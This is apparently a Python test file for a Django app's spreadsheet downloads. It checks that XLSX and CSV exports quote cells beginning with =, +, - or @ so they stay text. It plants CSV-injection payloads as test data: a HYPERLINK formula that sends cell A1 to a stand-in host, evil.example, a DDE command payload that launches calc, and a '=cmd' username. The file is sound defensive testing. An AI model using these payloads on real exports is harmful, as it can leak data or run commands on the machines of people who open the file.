"""Downloads never carry a live formula: text starting with = + - @ stays text; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from rawan.web.spreadsheet import csv_cell, dangerous

pytestmark = pytest.mark.django_db
PUB = "ikp-2024-jambi"  # results-only: its download table is filled from the stored rows edited below
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.mark.parametrize("v, out", [
    ("=1+1", "'=1+1"), ("+62 812", "'+62 812"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("-3", "-3"), ("-3,5", "-3,5"), ("+4.25", "+4.25"), (-3.5, -3.5), ("Kerinci", "Kerinci"), ("", ""), (None, None),
])
def test_csv_cell(v, out):
    assert csv_cell(v) == out
    assert dangerous(v) == (out != v)


def _evil_title():
    from rawan.web.editions.models import Edition, ResultRow

    ed = Edition.objects.get(slug=PUB)
    Edition.objects.filter(pk=ed.pk).update(title=EVIL, source="@cmd|' /C calc'!A0")
    ResultRow.objects.filter(edition=ed, region_code="15.01").update(note="-2+3", name="+Kerinci")


def test_xlsx_download_has_no_formula(as_user):
    from openpyxl import load_workbook

    _evil_title()
    r = as_user(None).get(f"/e/{PUB}/unduh/hasil.xlsx")
    wb = load_workbook(io.BytesIO(r.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert EVIL in texts and "@cmd|' /C calc'!A0" in texts and "+Kerinci" in texts
    title = next(c for c in wb["sumber"]["B"] if c.value == EVIL)
    assert title.data_type == "s" and title.quotePrefix
    scores = [c.value for c in wb["hasil"]["C"][1:]]
    assert all(isinstance(v, float) for v in scores if v is not None)  # numbers stay numbers


def test_csv_downloads_have_no_formula(as_user):
    _evil_title()
    rows = list(csv.reader(io.StringIO(as_user(None).get(f"/e/{PUB}/unduh/hasil.csv").content.decode())))
    kerinci = next(r for r in rows if r[0] == "15.01")
    assert kerinci[1] == "'+Kerinci" and "'-2+3" in kerinci
    assert all(not c.startswith(("=", "+", "-", "@")) or c.lstrip("-+").replace(".", "").isdigit()
               for r in rows for c in r)
    from django.contrib.auth import get_user_model

    from rawan.web.audit.models import log_action
    from rawan.web.editions.models import Edition

    u = get_user_model().objects.create(username="=cmd")
    log_action("rawan.edition.settings", user=u, edition=Edition.objects.get(slug=PUB), data={"reason": "x"})
    audit = as_user("verifier").get(f"/e/{PUB}/audit.csv").content.decode()
    assert "\n" + "=cmd" not in audit and ",=cmd," not in audit and "'=cmd" in audit
